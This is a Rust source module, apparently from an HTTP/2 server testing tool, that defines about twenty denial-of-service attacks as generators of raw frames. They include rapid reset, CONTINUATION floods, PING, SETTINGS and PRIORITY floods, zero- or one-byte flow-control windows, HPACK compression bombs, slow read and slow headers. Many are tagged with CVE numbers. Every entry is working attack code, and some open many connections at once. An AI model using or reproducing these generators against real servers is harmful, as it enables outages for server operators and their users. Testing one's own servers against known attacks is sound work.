//! The attacks: what is sent, again and again.

use crate::common::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RESET, SETTINGS,
    WINDOW_UPDATE, block, frame, get, line, post,
};

/// SETTINGS_INITIAL_WINDOW_SIZE.
const INITIAL_WINDOW_SIZE: u16 = 4;
const WINDOW_MOST: u32 = (1 << 31) - 1;
/// A body that no window lets through at once.
const LARGE: &str = "/bytes/1000000";
/// The index of the newest entry of the table (RFC 7541, 6.1).
const NEWEST: u8 = 0x80 | 62;

pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// Its name elsewhere.
    pub(crate) known_as: &'static str,
    pub(crate) settings: &'static [(u16, u32)],
    /// What the attacker sends at its step of this number; nothing when it has sent all and only holds on.
    pub(crate) step: fn(u32) -> Vec<u8>,
    /// It takes what it is sent.
    pub(crate) reads: bool,
    /// Connections at once.
    pub(crate) connections: usize,
}

const FLOOD: Attack = Attack {
    name: "",
    known_as: "",
    settings: &[],
    step: |_| Vec::new(),
    reads: true,
    connections: 1,
};

/// One that keeps what it has opened.
const HOLD: Attack = Attack {
    connections: 20,
    ..FLOOD
};

fn odd(step: u32) -> u32 {
    2 * step + 1
}

fn window_update(stream: u32, increment: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &increment.to_be_bytes())
}

/// HEADERS of a request whose block ends like this.
fn get_with(step: u32, more: &[u8]) -> Vec<u8> {
    let fields = [&block(&line("GET", "/bytes/3")), more].concat();
    frame(HEADERS, END_HEADERS | END_STREAM, odd(step), &fields)
}

/// A field that enters the table (RFC 7541, 6.2.1).
fn entry(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = block(&[(name, value)]);
    if let Some(first) = bytes.first_mut() {
        *first = 0x40;
    }
    bytes
}

/// An entry, then requests that name it again and again.
fn bomb(step: u32, name: &str, value_bytes: usize, times: usize) -> Vec<u8> {
    match step {
        0 => get_with(0, &entry(name, &"v".repeat(value_bytes))),
        _ => get_with(step, &vec![NEWEST; times]),
    }
}

/// Uploads that are not sent, for a bomb that stays.
fn held_bomb(step: u32) -> Vec<u8> {
    let more = match step {
        0 => entry("x", &"v".repeat(3000)),
        1..100 => vec![NEWEST; 15],
        _ => return Vec::new(),
    };
    let fields = [&block(&line("POST", "/body")), &more[..]].concat();
    frame(HEADERS, END_HEADERS, odd(step), &fields)
}

#[rustfmt::skip] // One attack, a few lines.
pub(crate) const ATTACKS: &[Attack] = &[
    Attack { name: "rapid reset", known_as: "CVE-2023-44487",
        step: |step| [get(odd(step), "/bytes/3"), frame(RESET, 0, odd(step), &CANCEL.to_be_bytes())].concat(), ..FLOOD },
    Attack { name: "resets made by windows of zero", known_as: "CVE-2025-8671",
        step: |step| [get(odd(step), "/bytes/3"), window_update(odd(step), 0)].concat(), ..FLOOD },
    Attack { name: "resets made by DATA behind the end", known_as: "CVE-2025-8671",
        step: |step| [get(odd(step), "/bytes/3"), frame(DATA, 0, odd(step), b"x")].concat(), ..FLOOD },
    Attack { name: "malformed requests", known_as: "",
        step: |step| get_with(step, &block(&[("X-A", "b")])), ..FLOOD },
    Attack { name: "CONTINUATION without end", known_as: "CVE-2024-27316",
        step: |step| match step {
            0 => frame(HEADERS, END_STREAM, 1, &block(&line("GET", "/"))),
            _ => frame(CONTINUATION, 0, 1, &block(&[("x", "y")])),
        }, ..FLOOD },
    Attack { name: "SETTINGS", known_as: "CVE-2019-9515",
        step: |_| frame(SETTINGS, 0, 0, &[]), ..FLOOD },
    Attack { name: "SETTINGS that shift the windows of streams", known_as: "",
        step: |step| match step {
            0..90 => get(odd(step), LARGE),
            _ => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, (step % 2) as u8]),
        }, settings: &[(INITIAL_WINDOW_SIZE, 0)], ..FLOOD },
    Attack { name: "PING", known_as: "CVE-2019-9512",
        step: |_| frame(PING, 0, 0, &[1; 8]), ..FLOOD },
    Attack { name: "answers to PING that nobody takes", known_as: "CVE-2019-9517",
        step: |_| frame(PING, 0, 0, &[1; 8]), reads: false, ..FLOOD },
    Attack { name: "empty DATA", known_as: "CVE-2019-9518",
        step: |step| match step {
            0 => post(1, "/body"),
            _ => frame(DATA, 0, 1, &[]),
        }, ..FLOOD },
    Attack { name: "PRIORITY", known_as: "CVE-2019-9513",
        step: |step| frame(PRIORITY, 0, odd(step % 1000), &[0, 0, 0, 0, 1]), ..FLOOD },
    Attack { name: "frames of unknown types", known_as: "",
        step: |_| frame(0xbe, 0, 0, &[0; 8]), ..FLOOD },
    Attack { name: "WINDOW_UPDATE", known_as: "",
        step: |_| window_update(0, 1), ..FLOOD },
    Attack { name: "windows of one byte", known_as: "CVE-2019-9511",
        step: |step| match step {
            0 => get(1, LARGE),
            _ => window_update(1, 1),
        }, settings: &[(INITIAL_WINDOW_SIZE, 1)], ..FLOOD },
    Attack { name: "HPACK bomb", known_as: "CVE-2016-6581",
        step: |step| bomb(step, "x", 3000, 4000), ..FLOOD },
    Attack { name: "HTTP/2 bomb of tiny fields", known_as: "",
        step: |step| bomb(step, "x", 1, 4000), ..FLOOD },
    Attack { name: "HTTP/2 bomb of crumbs", known_as: "",
        step: |step| bomb(step, "cookie", 1, 4000), ..FLOOD },
    Attack { name: "bombs below the limits, held", known_as: "",
        step: held_bomb, ..HOLD },
    Attack { name: "streams above the limit", known_as: "",
        step: |step| post(odd(step), "/body"), ..FLOOD },
    Attack { name: "windows kept shut", known_as: "CVE-2019-9517",
        step: |step| match step {
            0..100 => get(odd(step), LARGE),
            _ => Vec::new(),
        }, settings: &[(INITIAL_WINDOW_SIZE, 0)], ..HOLD },
    Attack { name: "answers that nobody takes", known_as: "slow read",
        step: |step| match step {
            0 => window_update(0, WINDOW_MOST - 65_535),
            1..100 => get(odd(step), LARGE),
            _ => Vec::new(),
        }, settings: &[(INITIAL_WINDOW_SIZE, WINDOW_MOST)], reads: false, ..HOLD },
    Attack { name: "heads that never end", known_as: "slow headers",
        step: |step| match step {
            0 => frame(HEADERS, END_STREAM, 1, &block(&line("GET", "/"))),
            _ => Vec::new(),
        }, ..HOLD },
];
